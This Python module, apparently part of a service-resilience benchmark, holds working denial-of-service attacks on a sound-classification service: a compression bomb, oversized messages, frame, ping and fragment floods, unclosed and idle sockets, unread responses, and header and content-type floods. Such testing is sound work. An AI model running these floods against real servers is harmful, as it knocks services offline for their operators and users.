"""Attacks by connections: live sound that is none, answers that nobody reads, heads without end."""

import asyncio
import base64
import contextlib
import os
from collections.abc import Iterator

from websockets.asyncio.client import connect
from websockets.exceptions import WebSocketException

from bench.hostile.attack import Attack, Target, at_once, send_and_wait

_STREAM = "/stream/urban-sound?sample_rate=4000&hop_seconds=0.25"
_SECOND = bytes(8000)
_EMPTY_FRAME = b"\x82\x80\0\0\0\0"
_TEXT_FRAME = b"\x81\x80\0\0\0\0"
_PING = b"\x89\xfd" + bytes(4) + bytes(125)


async def deflated(target: Target) -> None:
    """31 sockets of one message of 16 kB each that inflates to 16 MiB of zeros; clients gone.

    Where a server does not inflate, as many seconds of zeros as it takes.
    """

    async def client() -> None:
        with contextlib.suppress(OSError, WebSocketException):
            async with connect(f"ws://{target.host}{_STREAM}", compression="deflate") as socket:
                if socket.protocol.extensions:
                    await socket.send(bytes((16 << 20) - 2))
                    socket.transport.abort()
                    return
                async with asyncio.timeout(0.5):
                    while True:
                        await socket.send(_SECOND)

    for _ in target.rounds():
        await at_once(31, client)
        await asyncio.sleep(1)


async def large_messages(target: Target) -> None:
    """32 sockets of one message of 15 MiB each, not compressed."""

    async def client() -> None:
        with contextlib.suppress(OSError, WebSocketException):
            address = f"ws://{target.host}{_STREAM}"
            async with connect(address, compression=None) as socket:
                await socket.send(bytes(15 << 20))
                await socket.recv()

    for _ in target.rounds():
        await at_once(32, client)


async def empty_frames(target: Target) -> None:
    """64 sockets that send an empty frame every second."""
    await at_once(64, lambda: _live(target, _frames(target, _EMPTY_FRAME, 1.0)))


async def slow_sound(target: Target) -> None:
    """64 sockets that send one sample every second."""
    await at_once(64, lambda: _live(target, _frames(target, b"\x82\x82" + bytes(6), 1.0)))


async def tiny_frames(target: Target) -> None:
    """16 sockets that send empty frames as fast as they can."""
    await at_once(16, lambda: _live(target, _frames(target, _EMPTY_FRAME * 10_000, 0.0)))


async def pings(target: Target) -> None:
    """16 sockets that send pings as fast as they can, and read no pong."""
    await at_once(16, lambda: _live(target, _frames(target, _PING * 1000, 0.0)))


async def fragments(target: Target) -> None:
    """16 sockets whose one message comes in fragments of a byte."""
    begin, on = b"\x02\x81" + bytes(5), b"\x00\x81" + bytes(5)
    content = begin + on * 100_000
    await at_once(16, lambda: _live(target, _frames(target, content, 0.0, on * 100_000)))


async def unclosed(target: Target) -> None:
    """600 sockets that never answer the close, each opened anew when it is gone."""

    async def client() -> None:
        for _ in target.rounds():
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(*target.address)
                try:
                    writer.write(_upgrade(target, _STREAM))
                    async with asyncio.timeout(target.seconds):
                        await reader.readuntil(b"\r\n\r\n")
                        writer.write(_TEXT_FRAME)  # which is no sound: the service closes
                        await reader.read()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0.2)

    await at_once(600, client)


async def idle(target: Target) -> None:
    """2,000 connections that say nothing."""
    await at_once(2000, lambda: send_and_wait(target, b"", target.seconds))


async def unread(target: Target) -> None:
    """600 connections that ask for music again and again, and read none."""
    content = target.head("GET", "/recording?genre=jazz") * 50

    async def client() -> None:
        with contextlib.suppress(OSError):
            # A limit of two bytes: the stream stops to read, and the kernel's buffers fill.
            _, writer = await asyncio.open_connection(*target.address, limit=1)
            writer.write(content)
            await asyncio.sleep(target.seconds)
            writer.transport.abort()

    await at_once(600, client)


async def heads(target: Target) -> None:
    """Heads of 16,000 headers in 64 kB, from 20 clients at a time."""
    content = target.head("GET", "/models", *["a:"] * 16_000)
    for _ in target.rounds():
        await at_once(20, lambda: send_and_wait(target, content, 1))


async def media_types(target: Target) -> None:
    """Uploads whose content type is 60 kB of semicolons, from 20 clients at a time."""
    content = target.post("/classify/urban-sound", "multipart/form-data" + ";" * 60_000, 0)
    for _ in target.rounds():
        await at_once(20, lambda: send_and_wait(target, content, 1))


Pieces = Iterator[tuple[bytes, float]]
"""bytes to send, and seconds until the next"""


def _frames(target: Target, first: bytes, pause: float, following: bytes | None = None) -> Pieces:
    for number in target.rounds():
        yield first if number == 0 or following is None else following, pause


def _upgrade(target: Target, path: str) -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    return target.head(
        *("GET", path, "Connection: Upgrade", "Upgrade: websocket"),
        *("Sec-WebSocket-Version: 13", f"Sec-WebSocket-Key: {key}"),
    )


async def _live(target: Target, pieces: Pieces) -> None:
    """Open a socket by hand and send pieces; read next to nothing."""
    with contextlib.suppress(OSError):
        _, writer = await asyncio.open_connection(*target.address, limit=1)
        try:
            writer.write(_upgrade(target, _STREAM))
            for content, pause in pieces:
                writer.write(content)
                async with asyncio.timeout(target.seconds):
                    await writer.drain()
                await asyncio.sleep(pause)
        finally:
            writer.transport.abort()


CLIENT_ATTACKS = {
    name: Attack(run)
    for name, run in {
        "deflated sound": deflated,
        "large messages": large_messages,
        "empty frames": empty_frames,
        "slow sound": slow_sound,
        "tiny frames": tiny_frames,
        "pings": pings,
        "fragments": fragments,
        "unclosed sockets": unclosed,
        "idle connections": idle,
        "unread answers": unread,
        "long heads": heads,
        "long media types": media_types,
    }.items()
}
